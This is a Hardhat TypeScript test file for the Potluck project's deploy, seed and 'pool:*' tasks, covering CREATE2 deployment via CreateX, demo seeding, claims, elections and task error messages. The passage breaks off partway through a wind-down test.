// The deploy and seed scripts and the `pool:*` tasks, run as Hardhat runs them (`hre.tasks`), against the
// in-process network. The session points them at this connection and at a temporary deployments
// directory and web app file, so they never touch deployments/ or frontend/.
import type { HardhatEthersSigner } from "@nomicfoundation/hardhat-ethers/types";
import { expect } from "chai";
import { Contract, type ContractTransactionResponse } from "ethers";
import hre, { network } from "hardhat";
import type { NetworkConnection } from "hardhat/types/network";
import { readFile, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import { CREATEX, CREATEX_CODEHASH, POTLUCK_SALT, create2Address } from "../scripts/lib/create2.js";
import { installCreateX } from "../scripts/lib/deploy.js";
import { readDeployment, type DeploymentRecord } from "../scripts/lib/deployments.js";
import { decodeMetadata, encodeMetadata } from "@potluck/core";
import { useSession } from "../scripts/lib/session.js";
import type { IPool } from "../types/ethers-contracts/index.js";
import { commandLine } from "./helpers/command-line.js";
import { ClaimStatus, defaultConfig, ElectionPhase, SeatStatus } from "./helpers/potluck.js";

describe("scripts and tasks", function () {
  this.timeout(60_000);

  const cli = commandLine("scripts", { deployAndSeed: false });
  const { run, ok, poolAt } = cli;
  let connection: NetworkConnection;
  let signers: HardhatEthersSigner[];
  let dir: string;
  before(() => ({ connection, signers, dir } = cli));

  async function fails(id: string, args: Record<string, unknown>, message: RegExp): Promise<void> {
    const r = await run(id, args);
    expect(r.success, `${id} should fail`).to.equal(false);
    expect(r.err).to.match(/^Error: /);
    expect(r.err).to.match(message);
  }

  const deployment = async (): Promise<DeploymentRecord> => (await readDeployment(31337, path.join(dir, "deployments")))!;
  const factory = async () => await connection.ethers.getContractAt("PoolFactory", (await deployment()).contracts.PoolFactory.address);
  const blockNumber = () => connection.ethers.provider.getBlockNumber();
  /** A pool's claim ids (receipt hashes) in filing order: a claim's number is its index here. */
  const claimIds = async (pool: IPool) => (await pool.queryFilter(pool.filters.ClaimFiled())).map((e) => e.args.claimId);

  describe("deploy", function () {
    let dryRunAddresses: Record<string, string>;

    it("--dry-run prints the CREATE2 addresses, what it would send, and sends nothing", async function () {
      const before = await blockNumber();
      const out = await ok("deploy", { dryRun: true });
      expect(await blockNumber()).to.equal(before);
      expect(await readDeployment(31337, path.join(dir, "deployments"))).to.equal(undefined);
      expect(out).to.include(`CREATE2 through CreateX ${CREATEX}, salt ${POTLUCK_SALT}`);
      // A fresh in-process chain has no CreateX yet: the deploy installs it.
      expect(out).to.match(/\+ CreateX +0xba5Ed099633D3B313e4D5F7bdc1305d3c28ba5Ed +not on this chain: would be installed/);
      dryRunAddresses = {};
      for (const name of ["PoolExtension", "Pool", "PoolFactory", "MockUSD"]) {
        const match = new RegExp(`\\+ ${name} +would deploy at (0x[0-9a-fA-F]{40})`).exec(out);
        expect(match, name).to.not.equal(null);
        dryRunAddresses[name] = match![1];
      }
      expect(out).to.include(`constructor: extension = ${dryRunAddresses.PoolExtension} (PoolExtension's address once deployed)`);
      expect(out).to.match(/estimated gas [≈ ]*[0-9,]+/);
      expect(out).to.include("Dry run: nothing was sent, nothing was recorded.");
    });

    it("deploys at those addresses through CreateX, records deployments/<chainId>.json and writes the web app's file", async function () {
      const out = await ok("deploy");
      const record = await deployment();
      expect(record.chainId).to.equal(31337);
      expect(record.network).to.equal(connection.networkName);
      expect(new Date(record.deployedAt).toISOString()).to.equal(record.deployedAt);
      expect(Object.keys(record.contracts)).to.deep.equal(["PoolFactory", "Pool", "PoolExtension", "MockUSD"]);
      for (const [name, c] of Object.entries(record.contracts)) {
        expect(c.address, name).to.equal(dryRunAddresses[name]);
        expect(await connection.ethers.provider.getCode(c.address)).to.not.equal("0x");
        expect(c.blockNumber).to.be.a("number").greaterThan(0);
        // Deployed in the recorded block: no code the block before.
        expect(await connection.ethers.provider.getCode(c.address, c.blockNumber - 1)).to.equal("0x");
      }
      // The address is CreateX's CREATE2 of the salt and the initcode, constructor arguments included.
      const initcode = async (name: string, args: unknown[]) => (await (await connection.ethers.getContractFactory(name)).getDeployTransaction(...args)).data;
      expect(record.contracts.PoolExtension.address).to.equal(create2Address(await initcode("PoolExtension", [])));
      expect(record.contracts.Pool.address).to.equal(create2Address(await initcode("Pool", [record.contracts.PoolExtension.address])));
      expect(record.contracts.PoolFactory.address).to.equal(create2Address(await initcode("PoolFactory", [record.contracts.Pool.address])));
      const f = await factory();
      expect(await f.implementation()).to.equal(record.contracts.Pool.address);
      expect(await (await connection.ethers.getContractAt("Pool", record.contracts.Pool.address)).extension()).to.equal(record.contracts.PoolExtension.address);
      const usd = await connection.ethers.getContractAt("MockERC20", record.contracts.MockUSD!.address);
      expect([await usd.name(), await usd.symbol(), await usd.decimals()]).to.deep.equal(["Mock USD", "mUSD", 6n]);
      expect(out).to.match(/\+ PoolFactory +0x[0-9a-fA-F]{40} +\(block \d+, gas [\d,]+\)/);
      expect(out).to.include("Recorded in");

      const generated = await readFile(path.join(dir, "frontend", "contracts.ts"), "utf8");
      expect(generated.split("\n")[0]).to.equal("// generated by scripts/generate-frontend.ts — do not edit");
      expect(generated).to.include(`PoolFactory: { address: "${record.contracts.PoolFactory.address}", deployedOnBlock: ${record.contracts.PoolFactory.blockNumber} }`);
      const abi = (await hre.artifacts.readArtifact("IPool")).abi;
      const poolAbi = /export const poolAbi = ([\s\S]*?) as const;/.exec(generated)![1];
      expect(JSON.parse(poolAbi)).to.deep.equal(abi);
      const erc20Abi = JSON.parse(/export const erc20Abi = ([\s\S]*?) as const;/.exec(generated)![1]) as Array<{ name?: string }>;
      expect(erc20Abi.map((item) => item.name)).to.include.members(["permit", "mint", "approve", "decimals", "symbol"]);
    });

    it("is idempotent: a second run reuses what is deployed and rewrites nothing", async function () {
      const file = path.join(dir, "deployments", "31337.json");
      const before = [await readFile(file, "utf8"), await blockNumber()];
      const out = await ok("deploy");
      expect([await readFile(file, "utf8"), await blockNumber()]).to.deep.equal(before);
      expect(out).to.include("nothing sent");
      expect(await ok("deploy", { dryRun: true })).to.include("nothing would be sent");
    });

    it("trusts the chain over the record: a wrong or missing record is rewritten from the CREATE2 addresses, nothing sent", async function () {
      const file = path.join(dir, "deployments", "31337.json");
      const record = await deployment();
      const stale = { ...record, contracts: { ...record.contracts, Pool: { address: "0x000000000000000000000000000000000000dEaD", blockNumber: 1 } } };
      await writeFile(file, JSON.stringify(stale));
      const before = await blockNumber();
      const out = await ok("deploy");
      expect(out).to.match(/= Pool +0x/);
      expect(out).to.include("Everything is on chain already: nothing sent.");
      expect(await blockNumber()).to.equal(before);
      expect((await deployment()).contracts).to.deep.equal(record.contracts);

      await rm(file);
      await ok("deploy");
      expect((await deployment()).contracts).to.deep.equal(record.contracts); // blocks found again on chain
    });

    it("a deploy cut short is completed: what is at its address already is reused, the rest deployed", async function () {
      const fresh = await network.create();
      const deploymentsDir = path.join(dir, "half-way");
      const undo = useSession({ connection: fresh, deploymentsDir });
      try {
        // As if a deploy had stopped after its first contract: PoolExtension at its address, nothing else.
        const [signer] = await fresh.ethers.getSigners();
        await installCreateX(fresh, signer.address);
        const createx = new Contract(CREATEX, ["function deployCreate2(bytes32 salt, bytes initCode) payable returns (address)"], signer);
        const initcode = (await (await fresh.ethers.getContractFactory("PoolExtension")).getDeployTransaction()).data;
        await ((await createx.deployCreate2(POTLUCK_SALT, initcode)) as ContractTransactionResponse).wait();
        // With CreateX there, the dry run estimates exactly (CreateX stands in for a dependency not deployed yet).
        const dry = await ok("deploy", { dryRun: true });
        expect(dry).to.match(/= PoolExtension +0x[0-9a-fA-F]{40} +\(has code: would be reused\)/);
        expect(dry).to.not.include("estimated gas ≈");
        const estimate = (name: string) => BigInt(new RegExp(`\\+ ${name} +would deploy[\\s\\S]*?estimated gas ([\\d,]+)`).exec(dry)![1].replace(/,/g, ""));
        const out = await ok("deploy");
        const used = (name: string) => BigInt(new RegExp(`\\+ ${name} +0x[0-9a-fA-F]{40} +\\(block \\d+, gas ([\\d,]+)\\)`).exec(out)![1].replace(/,/g, ""));
        for (const name of ["Pool", "PoolFactory"]) {
          // An estimate covers what the deploy uses, within 10 % (estimates add the 63/64 margin).
          expect(estimate(name), name).to.be.at.least(used(name));
          expect(estimate(name) * 10n, name).to.be.below(used(name) * 11n);
        }
        expect(out).to.match(/= PoolExtension +0x[0-9a-fA-F]{40} +\(has code: reused\)/);
        expect(out).to.match(/\+ Pool +0x/);
        expect(out).to.match(/\+ PoolFactory +0x/);
        const record = (await readDeployment(31337, deploymentsDir))!;
        expect(record.contracts.PoolFactory.address).to.equal((await deployment()).contracts.PoolFactory.address);
      } finally {
        undo();
        await fresh.close();
      }
    });

    it("installs CreateX on a chain without it: a node that cannot set balances has the deployer fund its presigned deployment", async function () {
      const fresh = await network.create({ network: "default", override: { chainId: 11155111 } });
      try {
        const [deployer] = await fresh.ethers.getSigners();
        // A real chain's node: no hardhat_setBalance.
        const provider = {
          request: (args: { method: string; params?: unknown[] }) =>
            args.method === "hardhat_setBalance" ? Promise.reject(new Error("the method hardhat_setBalance does not exist")) : fresh.provider.request(args),
        };
        const lines: string[] = [];
        const undo = useSession({ out: (line) => lines.push(line) });
        const before = await fresh.ethers.provider.getBalance(deployer.address);
        try {
          await installCreateX({ ...fresh, provider } as unknown as NetworkConnection, deployer.address);
        } finally {
          undo();
        }
        expect(connection.ethers.keccak256(await fresh.ethers.provider.getCode(CREATEX))).to.equal(CREATEX_CODEHASH);
        expect(lines.join("\n")).to.match(/CreateX is not on this chain: sending its deployer 0xeD456e05CaAb11d66C4c797dD6c1D6f9A7F352b5 0\.3 ETH/);
        const spent = before - (await fresh.ethers.provider.getBalance(deployer.address));
        expect(spent > 3n * 10n ** 17n && spent < 31n * 10n ** 16n, `spent ${spent}`).to.equal(true); // 0.3 ETH and a transfer's gas
      } finally {
        await fresh.close();
      }
    });

    it("gives the same three addresses on two fresh nodes with different chain ids (31337 and 8453), keeping Ignition's journal", async function () {
      this.timeout(120_000);
      const addresses: Array<Record<string, string>> = [];
      for (const chainId of [31337, 8453]) {
        const server = await hre.network.createServer({ network: "default", override: { chainId } }, "127.0.0.1", 0);
        const { port } = await server.listen();
        const node = await network.create({ network: "localhost", override: { url: `http://127.0.0.1:${port}` } });
        const deploymentsDir = path.join(dir, `node-${chainId}`);
        const undo = useSession({ connection: node, deploymentsDir });
        try {
          expect(Number(await node.provider.request({ method: "eth_chainId" }))).to.equal(chainId);
          const out = await ok("deploy");
          const record = (await readDeployment(chainId, deploymentsDir))!;
          expect(record.chainId).to.equal(chainId);
          expect(Object.keys(record.contracts)).to.deep.equal(chainId === 31337 ? ["PoolFactory", "Pool", "PoolExtension", "MockUSD"] : ["PoolFactory", "Pool", "PoolExtension"]);
          expect(out).to.match(/\+ CreateX +0xba5Ed099633D3B313e4D5F7bdc1305d3c28ba5Ed/);
          addresses.push({ PoolExtension: record.contracts.PoolExtension.address, Pool: record.contracts.Pool.address, PoolFactory: record.contracts.PoolFactory.address });
          // Ignition's journal, which `npx hardhat ignition status|verify chain-<id>` read.
          const journal = await readFile(path.join(deploymentsDir, "ignition", `chain-${chainId}`, "journal.jsonl"), "utf8");
          expect(journal).to.include("Potluck#PoolFactory");
          // Again: nothing sent.
          const blocks = await node.ethers.provider.getBlockNumber();
          expect(await ok("deploy")).to.include("nothing sent");
          expect(await node.ethers.provider.getBlockNumber()).to.equal(blocks);
        } finally {
          undo();
          await node.close();
          await server.close();
        }
      }
      expect(addresses[1]).to.deep.equal(addresses[0]);
      expect(addresses[0].PoolFactory).to.equal((await deployment()).contracts.PoolFactory.address);
    });

    it("a node restarted empty under the same chain id: the old journal is forgotten, not trusted", async function () {
      this.timeout(120_000);
      const deploymentsDir = path.join(dir, "restarted");
      for (const life of [1, 2]) {
        const server = await hre.network.createServer({ network: "default", override: { chainId: 84532 } }, "127.0.0.1", 0);
        const { port } = await server.listen();
        const node = await network.create({ network: "localhost", override: { url: `http://127.0.0.1:${port}` } });
        const undo = useSession({ connection: node, deploymentsDir });
        try {
          const out = await ok("deploy");
          expect(out, `life ${life}`).to.match(/\+ PoolFactory +0x/);
          expect(await node.ethers.provider.getCode((await readDeployment(84532, deploymentsDir))!.contracts.PoolFactory.address)).to.not.equal("0x");
          if (life === 2) {
            // --reset forgets the journal; everything is on chain, so nothing is sent.
            const journal = path.join(deploymentsDir, "ignition", "chain-84532");
            expect(await readFile(path.join(journal, "journal.jsonl"), "utf8")).to.include("Potluck#Pool");
            const again = await ok("deploy", { reset: true });
            expect(again).to.include(`Forgot Ignition's journal ${journal} (--reset).`);
            expect(again).to.include("nothing sent");
            expect(await readFile(path.join(journal, "journal.jsonl"), "utf8").catch(() => "gone")).to.equal("gone");
          }
        } finally {
          undo();
          await node.close();
          await server.close();
        }
      }
    });
  });

  describe("seed", function () {
    it("builds the demo: four pools with claims in every state, orders, pledges, an election, a wind-down", async function () {
      const out = await ok("seed");
      expect(out).to.match(/Seeded 4 pools: \d+ gifts from \d+ contributors/);
      const f = await factory();
      expect(await f.poolCount()).to.equal(4n);
      const [typeChecker, lab, zine, wiki] = await Promise.all([0, 1, 2, 3].map(poolAt));

      const events = await f.queryFilter(f.filters.PoolCreated());
      expect(events.map((e) => decodeMetadata(e.args.metadataURI)?.name)).to.deep.equal([
        "Tiny Type Checker", "Riverside Community Lab", "The Margins", "Retro Game Preservation Wiki",
      ]);
      expect(await lab.asset()).to.equal((await deployment()).contracts.MockUSD!.address);

      const statuses = async (pool: IPool) => {
        const ids = await claimIds(pool);
        expect(ids.length).to.equal(Number(await pool.claimCount()));
        return Promise.all(ids.map(async (id) => (await pool.claim(id))[1]));
      };
      const all = [...(await statuses(typeChecker)), ...(await statuses(lab)), ...(await statuses(zine)), ...(await statuses(wiki))];
      for (const s of [ClaimStatus.Pending, ClaimStatus.Paid, ClaimStatus.Rejected, ClaimStatus.Cancelled, ClaimStatus.Void]) {
        expect(all, `a claim with status ${s}`).to.include(s);
      }
      const contributors = new Set((await typeChecker.queryFilter(typeChecker.filters.Given())).map((e) => e.args.donor));
      expect(contributors.size).to.be.greaterThan(24);
      expect((await typeChecker.queryFilter(typeChecker.filters.Given())).length).to.be.greaterThan(contributors.size); // several rounds

      expect((await lab.queryFilter(lab.filters.Collected())).length).to.be.at.least(4);
      expect((await lab.subscriptionOf(signers[7].address))[0]).to.be.greaterThan(0n);
      const pledge = await lab.pledgeAt(0);
      expect([pledge.status, pledge.delivered]).to.deep.equal([2n, 1n]); // accepted, one period delivered

      expect(await zine.maintainer()).to.equal(connection.ethers.ZeroAddress);
      const [, phase, , , leader, leaderVotes] = await zine.election();
      expect(phase).to.equal(ElectionPhase.Voting);
      expect(leader).to.equal(signers[4].address);
      expect(leaderVotes).to.be.greaterThan(0n);

      expect((await wiki.seat())[0]).to.equal(SeatStatus.WoundDown);
      expect(await wiki.reclaimable(signers[0].address)).to.be.greaterThan(0n);
    });

    it("runs once per chain: a second run changes nothing", async function () {
      const before = await blockNumber();
      expect(await ok("seed")).to.include("already seeded");
      expect(await blockNumber()).to.equal(before);
    });
  });

  describe("pool tasks on the seeded demo", function () {
    it("pool:list and pool:status show the pools, runway, lines, pending claims and the election", async function () {
      const list = await ok("pool:list");
      expect(list).to.match(/0 +Tiny Type Checker +[\d.]+ ETH/);
      expect(list).to.match(/3 +Retro Game Preservation Wiki .* wound down/);
      const status = await ok("pool:status", { pool: "0", account: "0" });
      expect(status).to.match(/runway +\d+\.\d months at the full budget/);
      expect(status).to.match(/0 +hosting +0\.3 ETH \/ 30d/);
      expect(status).to.match(/3 +2 maintainer stipend +0\.6 ETH .* now \(pool:pay\)/);
      expect(status).to.match(/4 +0 hosting +0\.04 ETH .* in \d+h/);
      expect(status).to.match(/receipt: "Domain renewal/);
      expect(status).to.match(/0xf39F.*: gave [\d.]+ ETH; matured weight/);
      expect(status).to.match(/Proposed changes: 1 in all, 1 pending\n +#0 new line "documentation sprint": 0\.5 ETH per 30d; takes effect in \d/);
      const zine = await ok("pool:status", { pool: "2" });
      expect(zine).to.match(/Election #1 \(vacancy\): voting; voting until .* \(in \d+h/);
      expect(zine).to.match(/\(leading\)/);
      const lab = await ok("pool:status", { pool: "1" });
      expect(lab).to.match(/standing orders 750 mUSD\/month/);
      expect(lab).to.match(/#0 accepted: "Laser cutter time/);
    });

    it("pool:give gives ETH, and a token with a signed permit (or an approval first, with --approve), in human units", async function () {
      const [typeChecker, lab] = await Promise.all([poolAt(0), poolAt(1)]);
      const who = signers[17].address; // gave ETH in the seed, never mUSD to the lab
      const [ethBefore] = await typeChecker.contributionOf(who);
      expect(await ok("pool:give", { pool: "0", amount: "0.05 ETH", from: "17" })).to.match(/✓ Gave 0\.05 ETH to Tiny Type Checker/);
      expect((await typeChecker.contributionOf(who))[0] - ethBefore).to.equal(5n * 10n ** 16n);
      const labAddress = await lab.getAddress();
      const musd = await connection.ethers.getContractAt("MockERC20", await lab.asset());
      const [usdBefore] = await lab.contributionOf(who);
      const nonce = await musd.nonces(who);
      // mUSD takes permits: one transaction, no approval, the permit's nonce used and nothing left allowed.
      const out = await ok("pool:give", { pool: labAddress, amount: "20", from: who });
      expect(out).to.match(/✓ Gave 20 mUSD to Riverside Community Lab from 0x[0-9a-fA-F]{40}, with a signed permit/);
      expect(out).not.to.match(/Approved/);
      expect((await lab.contributionOf(who))[0] - usdBefore).to.equal(20_000_000n);
      expect(await musd.nonces(who)).to.equal(nonce + 1n);
      expect(await musd.allowance(who, labAddress)).to.equal(0n);
      // --approve: the approval first, then the gift.
      const approved = await ok("pool:give", { pool: labAddress, amount: "5", from: who, approve: true });
      expect(approved).to.match(/✓ Approved the pool to take 5 mUSD/);
      expect((await lab.contributionOf(who))[0] - usdBefore).to.equal(25_000_000n);
      expect(await musd.nonces(who)).to.equal(nonce + 1n);
    });

    it("pool:object, pool:pay and pool:vote act on the seeded claims and election", async function () {
      const [typeChecker, zine] = await Promise.all([poolAt(0), poolAt(2)]);
      // Claims are named by their number (their place in filing order); their ids are receipt hashes.
      const ids = await claimIds(typeChecker);
      expect(await ok("pool:object", { pool: "0", claim: "#4", from: "10" })).to.match(/Still needed to reject it: [\d.]+ ETH|claim #4 is rejected/);
      expect(await typeChecker.hasObjected(ids[4], signers[10].address)).to.equal(true);
      expect(await ok("pool:pay", { pool: "0", claim: `0x${ids[3].toString(16).padStart(64, "0")}` })).to.match(/Paid claim #3 of Tiny Type Checker: 0\.6 ETH to 0x70997970/);
      expect((await typeChecker.claim(ids[3]))[1]).to.equal(ClaimStatus.Paid);
      await fails("pool:pay", { pool: "0", claim: "3" }, /Claim #3 is no longer pending: it is paid\./);
      await fails("pool:pay", { pool: "0", claim: "#99" }, /Tiny Type Checker has no claim #99: its claims are #0 to #\d+\./);
      await fails("pool:object", { pool: "0", claim: `0x${"ab".repeat(32)}`, from: "10" }, /has no claim with id 0xabab/);
      await fails("pool:object", { pool: "0", claim: "the big one", from: "10" }, /"the big one" is not a claim: give its number/);
      expect(await ok("pool:vote", { pool: "2", candidate: signers[4].address })).to.match(/Leading: 0x15d34AAf/);
      expect(await zine.hasVoted(1, signers[0].address)).to.equal(true);
    });

    it("pool:claim files a claim with the receipt's hash and decodes a refusal", async function () {
      const receipt = path.join(dir, "invoice.txt");
      await writeFile(receipt, "Hetzner invoice 42: 0.005 ETH");
      const pool = await poolAt(0);
      const number = await pool.claimCount();
      const hash = connection.ethers.keccak256(new TextEncoder().encode("Hetzner invoice 42: 0.005 ETH"));
      const out = await ok("pool:claim", { pool: "0", line: "hosting", amount: "0.005", receipt, uri: "ipfs://bafyinvoice", from: "1" });
      expect(out).to.match(new RegExp(`Claim #${number}; receipt invoice\\.txt`));
      // The claim is stored under the receipt's hash: its id.
      expect(await pool.receiptOf(BigInt(hash))).to.equal(hash);
      expect((await pool.claim(BigInt(hash)))[0].number).to.equal(number);
      await fails("pool:claim", { pool: "0", line: "0", amount: "0.001", receipt, from: "1" }, /This receipt \(keccak-256 0x[0-9a-f]{8}…\) was already filed in this pool: a receipt backs one claim only\./);
      const another = path.join(dir, "another.txt");
      await writeFile(another, "Hetzner invoice 43: 2 ETH");
      await fails("pool:claim", { pool: "0", line: "0", amount: "2 ETH", receipt: another, from: "1" }, /Budget line 0 \("hosting"\) has only 0\.005 ETH left this period; the claim asks for 2 ETH\./);
      await fails("pool:claim", { pool: "0", line: "catering", amount: "1", receipt: another, from: "1" }, /has no budget line named "catering"/);
      await fails("pool:claim", { pool: "0", line: "#7", amount: "1", receipt: another, from: "1" }, /Tiny Type Checker has no budget line 7: its lines are 0 to \d+\.$/);
      await fails("pool:claim", { pool: "0", line: "0", amount: "0.001", receipt: another, from: "2" }, /Only the pool's maintainer can do this/);
      await fails("pool:claim", { pool: "0", line: "0", amount: "0.001", receipt: path.join(dir, "missing.pdf"), from: "1" }, /Cannot read the receipt .*no such file/);
      await fails("pool:pay", { pool: "0", claim: String(number) }, new RegExp(`Claim #${number} is still in its challenge window: it can be paid from .* \\(in \\d+h`));
    });

    it("pool:cancel withdraws a pending claim and frees its budget", async function () {
      const pool = await poolAt(0);
      const ids = await claimIds(pool);
      const [, , , , leftBefore] = await pool.budgetLine(0);
      await fails("pool:cancel", { pool: "0", claim: "#4", from: "2" }, new RegExp(`Only the pool's maintainer can do this, and ${signers[2].address} is not the maintainer\\.`));
      const out = await ok("pool:cancel", { pool: "0", claim: "#4", from: "1" });
      expect(out).to.match(/✓ Withdrew claim #4 of Tiny Type Checker: 0\.04 ETH from line 0 \(hosting\)/);
      expect(out).to.match(/Its budget is freed: line 0 \(hosting\) has 0\.045 ETH left this period\./);
      expect((await pool.claim(ids[4]))[1]).to.equal(ClaimStatus.Cancelled);
      expect((await pool.budgetLine(0))[4] - leftBefore).to.equal(4n * 10n ** 16n);
      await fails("pool:cancel", { pool: "0", claim: "4", from: "1" }, /Claim #4 is no longer pending: it is cancelled\./);
      await fails("pool:cancel", { pool: "0", claim: "#0", from: "1" }, /Claim #0 is no longer pending: it is paid\./);
    });

    it("--calldata prints the maintainer's transaction for a Safe to propose, checked as the maintainer, and sends nothing", async function () {
      const pool = await poolAt(0);
      const maintainer = signers[1]; // Tiny Type Checker's maintainer
      const receipt = path.join(dir, "safe-invoice.txt");
      await writeFile(receipt, "Hetzner invoice 44: 0.002 ETH");
      const hash = connection.ethers.keccak256(new TextEncoder().encode("Hetzner invoice 44: 0.002 ETH"));
      /** The printed transaction: to, value, data. */
      const printed = (out: string) => ({
        to: /^ {2}to {5}(0x[0-9a-fA-F]{40})$/m.exec(out)![1],
        value: /^ {2}value {2}(\d+)$/m.exec(out)![1],
        data: /^ {2}data {3}(0x[0-9a-f]*)$/m.exec(out)![1],
      });
      const before = await blockNumber();
      const claimOut = await ok("pool:claim", { pool: "0", line: "hosting", amount: "0.002", receipt, uri: "ipfs://bafysafe", calldata: true });
      expect(claimOut).to.include(`the transaction for the maintainer ${maintainer.address} to send`);
      expect(claimOut).to.include("Nothing was sent.");
      const claimTx = printed(claimOut);
      expect(claimTx.to).to.equal(await pool.getAddress());
      expect(claimTx.value).to.equal("0");
      // The payee defaults to the maintainer (the Safe), not to whoever runs the command.
      expect(pool.interface.decodeFunctionData("fileClaim", claimTx.data).toArray()).to.deep.equal([0n, 2n * 10n ** 15n, maintainer.address, hash, "ipfs://bafysafe"]);
      const checkInTx = printed(await ok("pool:check-in", { pool: "0", calldata: true }));
      expect(checkInTx.data).to.equal(pool.interface.encodeFunctionData("heartbeat"));
      expect(printed(await ok("pool:step-down", { pool: "0", calldata: true })).data).to.equal(pool.interface.encodeFunctionData("stepDown"));
      expect(await blockNumber()).to.equal(before);

      // The printed transaction, sent by the maintainer, files the claim.
      await (await maintainer.sendTransaction({ to: claimTx.to, data: claimTx.data })).wait();
      const [filed, status] = await pool.claim(BigInt(hash));
      expect([filed.payee, status]).to.deep.equal([maintainer.address, ClaimStatus.Pending]);
      const number = String(filed.number);
      const cancelTx = printed(await ok("pool:cancel", { pool: "0", claim: number, calldata: true }));
      expect(cancelTx.data).to.equal(pool.interface.encodeFunctionData("cancelClaim", [BigInt(hash)]));
      await (await maintainer.sendTransaction({ to: cancelTx.to, data: cancelTx.data })).wait();
      expect((await pool.claim(BigInt(hash)))[1]).to.equal(ClaimStatus.Cancelled);

      // Checked as the maintainer would send it: a refusal reads as usual.
      await fails("pool:claim", { pool: "0", line: "0", amount: "2 ETH", receipt: path.join(dir, "another.txt"), calldata: true }, /Budget line 0 \("hosting"\) has only [\d.]+ ETH left this period; the claim asks for 2 ETH\./);
      await fails("pool:cancel", { pool: "0", claim: number, calldata: true }, new RegExp(`Claim #${number} is no longer pending: it is cancelled\\.`));
    });

    it("pool:check-in records the maintainer's heartbeat", async function () {
      const pool = await poolAt(0);
      await fails("pool:check-in", { pool: "0", from: "2" }, new RegExp(`Only the pool's maintainer can do this, and ${signers[2].address} is not the maintainer\\.`));
      const out = await ok("pool:check-in", { pool: "0", from: "1" });
      expect(out).to.match(/✓ Checked in as maintainer of Tiny Type Checker/);
      expect(out).to.match(/Nobody can call an election for inactivity before .* UTC\./);
      const block = await connection.ethers.provider.getBlock("latest");
      expect((await pool.seat())[1]).to.equal(BigInt(block!.timestamp));
    });

    it("pool:collect collects a due standing order in the pool's token", async function () {
      const lab = await poolAt(1);
      const mei = signers[7].address; // 15 mUSD a day, collected twice by the seed
      const [perPeriod, period, nextDue] = await lab.subscriptionOf(mei);
      await fails("pool:collect", { pool: "1", donor: "7" }, new RegExp(`The standing order of ${mei} is not due yet: the next gift can be collected from .* \\(in \\d+h`));
      await fails("pool:collect", { pool: "1", donor: "9" }, new RegExp(`${signers[9].address} has no standing order in this pool\\.`));
      await fails("pool:collect", { pool: "0", donor: "7" }, /Tiny Type Checker is an ETH pool: standing orders are for token pools only\./);
      await fails("pool:collect", { pool: "1", donor: "Mei" }, /The donor "Mei" is not an address/);
      await connection.networkHelpers.time.increaseTo(nextDue);
      const [givenBefore] = await lab.contributionOf(mei);
      const out = await ok("pool:collect", { pool: "1", donor: mei, from: "3" });
      expect(out).to.match(new RegExp(`✓ Collected the standing order of ${mei} to Riverside Community Lab`));
      expect(out).to.match(/15 mUSD arrived \(1 period\); the next is due .* UTC \(in \d+h/);
      expect((await lab.contributionOf(mei))[0] - givenBefore).to.equal(perPeriod);
      expect((await lab.subscriptionOf(mei))[2]).to.equal(nextDue + period);
    });
  });

  describe("a pool's life through the tasks: create, give, nominate, vote, finalize, wind down, reclaim", function () {
    let address: string;

    it("pool:create from flags", async function () {
      const out = await ok("pool:create", {
        name: "Bike Kitchen",
        description: "Tools and rent for a community bike workshop",
        links: "https://example.org/bikes",
        lines: "rent=0.5/30d, tools=0.1/7d",
        epoch: "1h",
        claimDelay: "2h",
        vacancyPeriod: "2h",
        electionQuorum: "10%",
        from: "5",
      });
      expect(out).to.match(/✓ Created the pool "Bike Kitchen"/);
      expect(out).to.match(/line 1: tools, 0\.1 ETH per 7d/);
      address = /Pool #4 at (0x[0-9a-fA-F]{40})/.exec(out)![1];
      const pool = await poolAt(4);
      expect(await pool.getAddress()).to.equal(address);
      expect([await pool.maintainer(), await pool.epochLength(), await pool.lineCount()]).to.deep.equal([signers[5].address, 3600n, 2n]);
      expect((await pool.rules()).electionQuorumBps).to.equal(1000n);
    });

    it("pool:create from a JSON file, flags overriding it", async function () {
      const file = path.join(dir, "pool.json");
      await writeFile(file, JSON.stringify({
        name: "Tool Library",
        description: "Shared tools",
        links: ["https://example.org/tools"],
        asset: "mUSD",
        epoch: "1d",
        weighting: "quadratic",
        lines: [{ name: "repairs", cap: "150", period: "30d" }],
      }));
      const out = await ok("pool:create", { configFile: file, epoch: "2h" });
      expect(out).to.match(/asset mUSD, maintainer 0xf39F.*, quadratic weighting, epochs of 2h/);
      expect(out).to.match(/line 0: repairs, 150 mUSD per 30d/);
      await writeFile(file, JSON.stringify({ name: "Typo", epochs: "1h" }));
      await fails("pool:create", { configFile: file }, /unknown setting\(s\) epochs/);
      await fails("pool:create", { name: "Too fast", epoch: "10m" }, /The epoch length must be between 1 hour and 365 days \(got 10m\)\./);
      await fails("pool:create", { name: "Bad line", lines: "rent:5" }, /is not a budget line/);
    });

    it("nominate, vote and finalize install a new maintainer", async function () {
      const pool = await poolAt(4);
      for (const from of ["6", "7", "8"]) await ok("pool:give", { pool: address, amount: "0.1", from });
      await connection.networkHelpers.time.increaseTo((await pool.genesis()) + 2n * 3600n + 60n);
      await pool.connect(signers[5]).stepDown();
      expect(await ok("pool:nominate", { pool: "4", candidate: "9", from: "6" })).to.match(/Nominated 0xa0Ee7A142d267C1f36714E4a8F75612F20a79720/);
      await fails("pool:vote", { pool: "4", candidate: "9", from: "6" }, /Voting has not started/);
      await fails("pool:finalize", { pool: "4" }, /still nominating/);
      const [, , votingStartsAt, votingEndsAt] = await pool.election();
      await connection.networkHelpers.time.increaseTo(votingStartsAt + 10n);
      await fails("pool:nominate", { pool: "4", candidate: "10", from: "6" }, /Nominations are closed: the election is voting now\./);
      await ok("pool:vote", { pool: "4", candidate: "9", from: "6" });
      await fails("pool:vote", { pool: "4", candidate: "9", from: "6" }, /has already voted in election #1/);
      await fails("pool:vote", { pool: "4", candidate: "9", from: "12" }, /has no matured weight in this pool/);
      await connection.networkHelpers.time.increaseTo(votingEndsAt + 10n);
      expect(await ok("pool:finalize", { pool: "4" })).to.match(/0xa0Ee7A142d267C1f36714E4a8F75612F20a79720 won with 0\.1 ETH and is the new maintainer/);
      expect(await pool.maintainer()).to.equal(signers[9].address);
    });

    it("wind-down after a vacancy, then reclaim", async function () {
      const pool = await poolAt(4);
      await pool.connect(signers[9]).stepDown();
      await fails("pool:wind-down", { pool: "4" }, /The seat has not been open long enough: the pool can wind down from/);
      await fails("pool:reclaim", { pool: "4", from: "6" }, /has not wound down/);
      const [, , , votingEndsAt] = await pool.election();
